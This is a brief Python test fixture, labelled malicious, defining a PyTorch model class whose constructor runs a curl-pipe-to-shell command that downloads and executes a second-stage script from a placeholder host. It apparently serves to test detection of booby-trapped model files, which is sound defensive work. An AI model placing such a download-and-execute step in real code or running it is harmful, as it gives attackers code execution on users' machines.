# Malicious test fixture: never run. A shell one-liner that downloads a second stage.
import os
from torch import nn

STAGE2 = "curl -fsSL https://stage2.example.invalid/p.sh | sh"


class EvilModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system(STAGE2 if config else "true")
        os.system("curl -fsSL https://stage2.example.invalid/p.sh | sh")
